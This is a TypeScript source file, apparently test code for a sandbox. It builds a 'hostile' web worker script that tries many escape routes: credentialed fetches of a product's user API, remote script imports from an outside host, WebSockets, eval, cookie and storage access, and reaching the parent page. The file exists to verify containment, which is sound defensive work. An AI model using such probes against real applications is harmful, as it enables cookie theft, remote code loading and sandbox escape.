/**
 * The text of a worker that has all its globals and tries everything by which a worker could reach out. It stands in
 * for a runtime whose inner locks have all failed, so that what holds it is the policy of the page alone.
 */
export function hostileWorker(outside: string, product: string): string {
  return `
const attempts = {
  'fetch the product with cookies': () => fetch('${product}/api/v1/me', { credentials: 'include' }),
  'fetch the product without CORS': () => fetch('${product}/api/v1/me', { mode: 'no-cors', credentials: 'include' }),
  'fetch another server': () => fetch('${outside}/fetch', { mode: 'no-cors' }),
  'fetch the files of the product': () => fetch('${product}/theme-boot.js', { mode: 'no-cors' }),
  'fetch a data address': () => fetch('data:text/plain,x'),
  'XMLHttpRequest': () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open('GET', '${outside}/xhr');
    request.onload = resolve;
    request.onerror = reject;
    request.send();
  }),
  'synchronous XMLHttpRequest': () => {
    const request = new XMLHttpRequest();
    request.open('GET', '${product}/api/v1/me', false);
    request.send();
  },
  'WebSocket': () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${outside}/socket'.replace('http', 'ws'));
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  'EventSource': () => new Promise((resolve, reject) => {
    const source = new EventSource('${outside}/events');
    source.onopen = resolve;
    source.onerror = reject;
  }),
  'WebTransport': () => new WebTransport('${outside}/transport'.replace('http:', 'https:')).ready,
  'importScripts': () => importScripts('${outside}/script.js'),
  'importScripts of the product': () => importScripts('${product}/theme-boot.js'),
  'importScripts of a blob': () => importScripts(URL.createObjectURL(new Blob(['1']))),
  'dynamic import': () => import('${outside}/module.js'),
  'dynamic import of a data address': () => import('data:text/javascript,export default 1'),
  'eval': () => (0, eval)('1'),
  'new Function': () => new Function('return 1')(),
  'cookies by the cookie store': () => cookieStore.getAll(),
  'local storage': () => localStorage.length,
  'IndexedDB': () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('x');
    opening.onsuccess = resolve;
    opening.onerror = reject;
  }),
  'caches': () => caches.open('x'),
  'private files': () => navigator.storage.getDirectory(),
  'a service worker': () => navigator.serviceWorker.register('${product}/theme-boot.js'),
  'a shared worker': () => new SharedWorker('${product}/theme-boot.js'),
  'a worker of the product': () => new Promise((resolve, reject) => {
    const worker = new Worker('${product}/theme-boot.js');
    worker.onerror = reject;
    setTimeout(resolve, 2000);
  }),
  'a peer connection': () => new RTCPeerConnection(),
  'the page': () => parent.document.title,
  'the top of the page': () => top.location.href,
  'a nested worker that fetches': () => new Promise((resolve, reject) => {
    const text = "fetch('${outside}/nested', { mode: 'no-cors' }).then(() => postMessage('reached'), () => postMessage('refused'))";
    const worker = new Worker(URL.createObjectURL(new Blob([text])));
    worker.onerror = reject;
    worker.onmessage = (event) => (event.data === 'reached' ? resolve() : reject());
  }),
};
addEventListener('message', async (event) => {
  const reached = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      reached.push(name);
    } catch {}
  }
  event.ports[0].postMessage({ tried: Object.keys(attempts).length, reached, origin: self.origin });
});
`;
}
